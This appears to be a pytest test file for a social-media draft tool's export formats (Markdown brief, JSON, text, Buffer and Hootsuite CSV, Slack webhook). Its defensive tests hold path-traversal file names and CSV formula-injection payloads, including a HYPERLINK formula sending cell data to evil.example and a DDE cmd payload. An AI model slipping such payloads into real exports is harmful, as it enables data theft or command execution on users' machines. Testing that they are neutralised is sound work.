"""Export renderers: Markdown brief, JSON record, text, Buffer and Hootsuite CSV, webhook."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone

import pytest

from rtc_tui.core.export.render import (
    BUFFER_HEADER,
    ExportError,
    numbered,
    render,
    render_csv_buffer,
    render_csv_hootsuite,
    render_md,
    render_txt,
    safe_filename,
    slugify,
    webhook_payload,
)
from rtc_tui.core.models import Draft, Origin, content_hash
from rtc_tui.core.safety.checklist import evaluate
from rtc_tui.core.safety.checklist_actions import override, tick
from rtc_tui.safety_files.checklist import load_template
from tests.safety_helpers import check_draft

AT = datetime(2026, 3, 8, 9, 0, tzinfo=UTC)
FIRST_SEEN = datetime(2026, 3, 8, 8, 40, tzinfo=UTC)


def make_draft() -> Draft:
    draft = Draft(
        id=12,
        title="Festa della donna",
        text="Buona Festa della Donna a tutte! 💐",
        variants={
            "linkedin": 'Buona Festa della Donna a tutte le colleghe, "grazie", ogni giorno.'
        },
        platforms=["x", "linkedin"],
        author="alice",
        origin=Origin(
            kind="moment", ref="festa-della-donna", title="Festa della Donna", date="2026-03-08"
        ),
        review_notes=[{"by": "bob", "note": "SECRET-REVIEW-NOTE"}],
        scheduled_at=datetime(2026, 3, 8, 10, 5, tzinfo=UTC),
    )
    return draft


def test_md_brief_has_texts_origin_and_checklist_record_but_no_review_notes() -> None:
    draft = make_draft()
    template = load_template()
    tick(draft, template, "timing", user="bob", at=AT)
    state = evaluate(draft, template, check_draft(draft))
    md = render_md(draft, state, exported_by="carol", now=AT)
    assert md.startswith("# Festa della donna\n")
    assert "### X (35/280)" in md
    assert "### LinkedIn" in md
    assert "> Buona Festa della Donna a tutte! 💐" in md
    assert "- Origin: Moment “Festa della Donna”" in md
    assert "- [x] Timing is right — bob, 2026-03-08 09:00 UTC" in md
    assert "- [ ] Facts verified" in md
    assert f"`{content_hash(draft)}`" in md
    assert "- Exported: 2026-03-08 09:00 UTC by carol" in md
    assert "SECRET-REVIEW-NOTE" not in md
    assert "- [ ] Second pair of eyes" in md


def test_md_brief_lists_overrides_with_reason_who_and_when() -> None:
    draft = make_draft()
    draft.text = "Sparatoria in centro e fiori!"
    report = check_draft(draft)
    override(draft, report, report.blocking[0].key, user="bob", at=AT, reason="Idiom for goals")
    state = evaluate(draft, load_template(), check_draft(draft))
    md = render_md(draft, state, tz=timezone(timedelta(hours=1), "CET"))
    assert "## Overrides" in md
    assert "sparatoria (text): “Idiom for goals” — bob, 2026-03-08 10:00 CET" in md


def test_json_record_is_the_full_draft_without_review_notes() -> None:
    draft = make_draft()
    state = evaluate(draft, load_template(), check_draft(draft))
    rendered = render("json", draft, state, exported_by="carol", now=AT)
    data = json.loads(rendered.content)
    assert data["exported_by"] == "carol"
    assert data["exported_at"] == "2026-03-08T09:00:00+00:00"
    assert data["draft"]["id"] == 12
    assert data["draft"]["variants"]["linkedin"].startswith("Buona Festa")
    assert data["draft"]["content_hash"] == content_hash(draft)
    assert "review_notes" not in data["draft"]
    assert "SECRET-REVIEW-NOTE" not in rendered.content
    assert data["checklist"]["gate"]["passed"] is False
    assert rendered.filename == "draft-12.json"
    assert "💐" in rendered.content


def test_txt_is_one_platforms_text() -> None:
    draft = make_draft()
    assert render_txt(draft) == "Buona Festa della Donna a tutte! 💐\n"
    assert render_txt(draft, "linkedin").startswith("Buona Festa della Donna a tutte le colleghe")
    rendered = render("txt", draft, platform="linkedin")
    assert rendered.filename == "draft-12-linkedin.txt"
    with pytest.raises(ExportError, match="not a chosen platform"):
        render_txt(draft, "bluesky")


def test_clipboard_is_the_chosen_platforms_text_without_newline() -> None:
    rendered = render("clipboard", make_draft(), platform="x")
    assert rendered.content == "Buona Festa della Donna a tutte! 💐"
    assert rendered.filename == ""


def test_buffer_csv_is_one_file_per_platform_variant() -> None:
    tz = timezone(timedelta(hours=1))
    content = render_csv_buffer(make_draft(), tz=tz)  # the first platform's
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[0] == list(BUFFER_HEADER) == ["Text", "Image URL", "Tags", "Posting Time"]
    assert rows[1] == ["Buona Festa della Donna a tutte! 💐", "", "", "2026-03-08 11:05"]
    assert len(rows) == 2
    linkedin = render_csv_buffer(make_draft(), platform="linkedin", tz=tz)
    rows = list(csv.reader(io.StringIO(linkedin)))
    assert len(rows) == 2
    assert rows[1][0].startswith('Buona Festa della Donna a tutte le colleghe, "grazie"')
    assert '""grazie""' in linkedin
    rendered = render("csv-buffer", make_draft(), platform="linkedin")
    assert rendered.filename == "draft-12-linkedin-buffer.csv"  # the name says which
    with pytest.raises(ExportError, match="not a chosen platform"):
        render("csv-buffer", make_draft(), platform="bluesky")


def test_hootsuite_csv_has_no_header_and_us_dates() -> None:
    content = render_csv_hootsuite(make_draft())
    rows = list(csv.reader(io.StringIO(content)))
    assert rows == [["03/08/2026 10:05", "Buona Festa della Donna a tutte! 💐", ""]]
    assert render("csv-hootsuite", make_draft()).filename == "draft-12-x-hootsuite.csv"


def test_csv_without_schedule_leaves_time_blank() -> None:
    draft = make_draft()
    draft.scheduled_at = None
    assert list(csv.reader(io.StringIO(render_csv_buffer(draft))))[1][3] == ""
    assert list(csv.reader(io.StringIO(render_csv_hootsuite(draft))))[0][0] == ""


def test_webhook_payload_is_slack_compatible_and_escaped() -> None:
    draft = make_draft()
    draft.text = "Pizza & birra <3 per tutti"
    assert webhook_payload(draft, "x") == {"text": "Pizza &amp; birra &lt;3 per tutti"}
    brief = webhook_payload(draft)
    assert list(brief) == ["text"]
    assert brief["text"].startswith("*Festa della donna*\n\n*X*\nPizza &amp; birra")
    assert "*LinkedIn*" in brief["text"]
    rendered = render("webhook", draft, platform="x")
    assert json.loads(rendered.content) == {"text": "Pizza &amp; birra &lt;3 per tutti"}


@pytest.mark.parametrize(
    "title",
    [
        "../../etc/passwd",
        ".bashrc",
        "Perché sì / no \\ forse",
        "",
        "🔥🔥🔥",
        "C:\\Windows\\System32",
    ],
)
def test_file_names_are_safe_and_never_carry_the_title(title: str) -> None:
    draft = make_draft()
    draft.title = title
    name = safe_filename(draft, "md")
    assert name == "draft-12.md"
    assert "/" not in name
    assert "\\" not in name
    assert not name.startswith(".")


def test_slug_is_capped_and_numbered_names_keep_the_extension() -> None:
    assert len(slugify("parola " * 30)) <= 40
    assert numbered("draft-1-x.md", 2) == "draft-1-x-2.md"
    assert numbered("README", 3) == "README-3"


def test_unknown_format_is_refused() -> None:
    with pytest.raises(ExportError, match="unknown export format"):
        render("pdf", make_draft())
    with pytest.raises(ExportError, match="not written to a file"):
        safe_filename(make_draft(), "webhook")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+1 per la pizza",
        "-5% oggi",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTAB",
        "\rCR",
    ],
)
@pytest.mark.parametrize("fmt", ["csv-buffer", "csv-hootsuite"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(fmt: str, text: str) -> None:
    draft = make_draft()
    draft.variants = {}
    draft.text = text
    rows = list(csv.reader(io.StringIO(render(fmt, draft).content)))
    body = rows[1:] if fmt == "csv-buffer" else rows
    cell = body[0][0] if fmt == "csv-buffer" else body[0][1]
    assert cell == "'" + text
    for row in body:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_plain_csv_cells_are_left_alone() -> None:
    draft = make_draft()
    draft.variants = {}
    draft.text = "Buona festa! = auguri"
    rows = list(csv.reader(io.StringIO(render("csv-buffer", draft).content)))
    assert rows[1][0] == "Buona festa! = auguri"
